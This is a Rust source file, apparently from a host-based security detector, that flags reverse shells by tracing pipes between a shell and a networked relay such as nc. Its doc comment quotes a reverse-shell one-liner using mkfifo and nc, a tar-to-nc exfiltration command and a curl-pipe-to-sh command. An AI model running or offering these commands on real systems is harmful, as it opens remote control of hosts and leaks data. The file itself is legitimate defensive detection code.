//! A shell and a program with a connection that read each other's output, as in
//! `mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`. At most one program such as `cat`
//! may stand between.
//!
//! Output that only goes out, or input that only comes in, is no circle: neither
//! `tar c | nc HOST PORT` nor `curl URL | sh` is reported here.

use std::sync::Arc;

use sentinel_event::{Event, Process, Severity};

use super::pipes::input;
use super::{ReverseShell, TECHNIQUES, is_commanded, named};
use crate::connections::{Spoken, is_local};
use crate::grade::milder;
use crate::{Finding, words};

/// Judges whether the process at hand, which was started, connected or opened a FIFO,
/// has closed a circle.
pub fn judge(detection: &ReverseShell, event: &Event) -> Option<Finding> {
    let mut members = behind(detection, &event.process);
    members.push(event.process.clone());
    members
        .iter()
        .filter(|process| is_commanded(process))
        .find_map(|shell| {
            let (relay, spoken) = relay_of(detection, shell)?;
            Some(finding(event, shell, &relay, &spoken))
        })
}

/// The processes up to two pipes behind the output of `process`.
fn behind(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
    let pipes = &detection.pipes;
    let next = |process: &Process| -> Vec<Arc<Process>> {
        let outputs = pipes.outputs(process).into_iter();
        outputs
            .flat_map(|pipe| pipes.readers(pipe).iter().cloned())
            .collect()
    };
    let mut members = next(process);
    let second: Vec<_> = members.iter().flat_map(|member| next(member)).collect();
    members.extend(second);
    members
}

/// The program with a connection that writes what `shell` reads, itself or through one
/// other, and reads what `shell` writes.
fn relay_of(detection: &ReverseShell, shell: &Process) -> Option<(Arc<Process>, Arc<Spoken>)> {
    let pipes = &detection.pipes;
    let answers = pipes.outputs(shell);
    let direct = pipes.writers(input(shell)?).iter();
    let through_one = direct
        .clone()
        .flat_map(|between| pipes.inputs(between))
        .flat_map(|pipe| pipes.writers(pipe));
    direct
        .chain(through_one)
        .filter(|relay| {
            pipes
                .inputs(relay)
                .iter()
                .any(|pipe| answers.contains(pipe))
        })
        .find_map(|relay| {
            let spoken = detection.connections.of(relay)?;
            Some((relay.clone(), spoken.clone()))
        })
}

fn finding(event: &Event, shell: &Process, relay: &Process, spoken: &Spoken) -> Finding {
    let mut severity = Severity::Critical;
    if is_local(spoken.peer) {
        severity = milder(severity);
    }
    let relay_name = words::shown(words::program(&relay.exe));
    let shell_name = words::shown(words::program(&shell.exe));
    let mut earlier = Vec::new();
    if spoken.seq != event.seq {
        earlier.push(spoken.evidence(event.time_ns));
    }
    Finding {
        variant: "circle",
        subject: "".into(),
        severity,
        confidence: 90,
        summary: format!(
            "{relay_name} (pid {}) and a shell ({shell_name}, pid {}, {}) command each other \
             over {}{}",
            relay.pid,
            shell.pid,
            words::user(shell),
            named(spoken),
            words::origin(shell)
        ),
        reason: "what the program with the connection reads is the shell's output, and what it \
                 writes is the shell's input, by the pipes that they share"
            .to_owned(),
        techniques: TECHNIQUES.into(),
        earlier,
        shows: format!("{} of the last member of the circle", event.kind()),
    }
}
